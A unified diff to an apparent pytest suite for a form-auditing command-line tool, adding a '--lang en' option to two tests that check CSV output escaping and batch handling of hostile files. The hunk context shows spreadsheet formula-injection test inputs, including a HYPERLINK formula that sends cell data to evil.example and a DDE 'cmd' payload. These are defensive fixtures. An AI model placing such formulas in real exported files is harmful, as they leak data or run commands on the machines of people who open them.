@@ -242,7 +242,7 @@ INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C ca
 def test_summary_csv_fields_are_never_formulas(title: str, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
     path = write_form(tmp_path / "in" / "f.json", form(title=title))
-    run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/")
+    run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/", "--lang", "en")
     with (tmp_path / "out" / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
     assert rows[0]["title"] == "'" + title
@@ -389,7 +389,7 @@ def test_a_batch_of_every_hostile_file(tmp_path: Path, capsys: pytest.CaptureFix
     out = tmp_path / "out"
     started = time.monotonic()
     code = main(["audit", str(folder), "-o", f"{out}/", "--format", "xlsx", "--timeout", "3",
-                 "--jobs", "2"])
+                 "--jobs", "2", "--lang", "en"])
     text = capsys.readouterr().out
     assert time.monotonic() - started < 60
     assert code == 2
